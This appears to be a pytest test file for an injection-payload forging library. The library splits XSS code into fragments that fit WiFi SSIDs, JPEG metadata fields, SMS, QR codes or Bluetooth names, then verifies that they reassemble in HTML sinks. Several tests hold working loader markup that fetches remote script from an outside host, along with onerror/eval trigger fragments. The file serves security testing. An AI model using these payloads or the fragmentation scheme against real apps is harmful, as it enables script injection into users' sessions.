from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from hybridscan.channels import get_channel
from hybridscan.forge import (
    InjectionPlan, InsufficientCapacity, InvalidUrl, LimitTooSmall, LoaderStyle, PlanMode, Role,
    SinkPreconditionError, UnescapableChunk, VerificationFailed, carried_code, fragment_payload,
    js_unescape, make_loader, plan_injection, verify_plan,
)
from hybridscan.sinks import PayloadVector, classify_sink

PRINTABLE = st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=1, max_size=200)


def test_loader_markup():
    assert make_loader("//mu.gl", "script").markup == "<script src=//mu.gl></script>"
    jq = make_loader("http://mu.gl", LoaderStyle.JQUERY_GET_SCRIPT)
    assert jq.markup == "<img src onerror=$.getScript('http://mu.gl')>"
    assert jq.length == 45
    assert make_loader("http://mu.gl", "dynamic").length == 99


@pytest.mark.parametrize("url,style", [("", "script"), ("mu gl", "img"), ("//a'b", "dynamic"), ("//mu.gl", "jquery")])
def test_loader_rejects_bad_urls(url, style):
    with pytest.raises(InvalidUrl):
        make_loader(url, style)


def test_short_code_is_direct():
    frags = fragment_payload("alert(1)", 100)
    assert len(frags) == 1 and frags[0].role is Role.DIRECT
    assert frags[0].markup == "<img src onerror=alert(1)>"


def test_tiny_limit_refused():
    with pytest.raises(LimitTooSmall):
        fragment_payload("x=1", 10)


def test_escape_false_refuses_quotes():
    with pytest.raises(UnescapableChunk):
        fragment_payload('a="' + "x" * 60, 30, escape=False)


def test_loader_at_32_splits_into_pieces_and_trigger():
    code = make_loader("http://mu.gl", "jquery").inner_code
    frags = fragment_payload(code, 32)
    assert frags[-1].role is Role.TRIGGER
    assert frags[-1].markup.startswith("<img src onerror=eval(")
    assert all(f.length <= 32 for f in frags)
    assert carried_code(frags) == code


@settings(max_examples=150, deadline=None)
@given(PRINTABLE, st.integers(min_value=27, max_value=120))
def test_fragments_reassemble_and_fit(code, limit):
    frags = fragment_payload(code, limit)
    assert all(f.length <= limit for f in frags)
    assert [f.is_trigger for f in frags] == [False] * (len(frags) - 1) + [True]
    assert [f.index for f in frags] == list(range(len(frags)))
    assert carried_code(frags) == code


@settings(max_examples=60, deadline=None)
@given(PRINTABLE)
def test_js_unescape_inverts_piece_chunks(code):
    for frag in fragment_payload(code, 40):
        if frag.role is Role.PIECE:
            body = frag.markup.split('="', 1)[1].rsplit('">', 1)[0]
            assert js_unescape(body) == frag.chunk


def test_script_wrapper_fragments():
    frags = fragment_payload("x" * 80, 40, PayloadVector.script_tag())
    assert all(f.markup.startswith("<script>") for f in frags)
    plan = plan_injection(frags, get_channel("bluetooth"))
    assert verify_plan(plan, classify_sink("html")).verified
    with pytest.raises(SinkPreconditionError):
        verify_plan(plan, classify_sink("innerHTML"))


def test_wifi_plan_is_timed():
    frags = fragment_payload(make_loader("http://mu.gl", "jquery").inner_code, 32)
    plan = plan_injection(frags, get_channel("wifi"))
    assert plan.mode is PlanMode.TIMED_SEQUENCE
    assert [a.time_slot for a in plan.assignments] == list(range(len(frags)))
    assert {a.field_name for a in plan.assignments} == {"SSID"}
    res = verify_plan(plan, classify_sink("innerHTML"))
    assert res.verified and res.recovered_code == plan.inner_code


def test_jpeg_plan_uses_distinct_fields():
    frags = fragment_payload("x" * 100, 60)
    assert len(frags) > 2
    plan = plan_injection(frags, get_channel("jpeg"))
    assert plan.mode is PlanMode.MULTI_FIELD
    names = [a.field_name for a in plan.assignments]
    assert len(names) == len(set(names)) == len(frags)
    assert verify_plan(plan, classify_sink("append")).verified


def test_single_shot_concatenates():
    frags = fragment_payload("y" * 30, 40)
    assert len(frags) > 1
    plan = plan_injection(frags, get_channel("sms"))
    assert plan.mode is PlanMode.SINGLE_SHOT
    assert plan.delivery_values() == ["".join(f.markup for f in frags)]
    assert verify_plan(plan, classify_sink("innerHTML")).verified


def test_oversized_fragment_rejected_by_wifi():
    frags = fragment_payload("z" * 250, 200)
    with pytest.raises(InsufficientCapacity):
        plan_injection(frags, get_channel("wifi"))


def test_too_many_fragments_for_fields():
    frags = fragment_payload("q" * 600, 30)
    with pytest.raises(InsufficientCapacity):
        plan_injection(frags, get_channel("jpeg"))


def test_trigger_first_fails_verification():
    frags = fragment_payload("w" * 60, 30)
    plan = plan_injection(frags, get_channel("wifi"))
    shuffled = InjectionPlan(plan.channel, tuple(reversed(plan.assignments)), plan.mode, plan.inner_code)
    with pytest.raises(VerificationFailed) as err:
        verify_plan(shuffled, classify_sink("innerHTML"))
    assert err.value.position == 0


def test_text_sink_is_a_precondition_error():
    plan = plan_injection(fragment_payload("alert(1)", 100), get_channel("qr"))
    with pytest.raises(SinkPreconditionError):
        verify_plan(plan, classify_sink("textContent"))


def test_wrong_expected_code():
    plan = plan_injection(fragment_payload("alert(1)", 100), get_channel("qr"))
    with pytest.raises(VerificationFailed):
        verify_plan(plan, classify_sink("innerHTML"), expected_code="alert(2)")
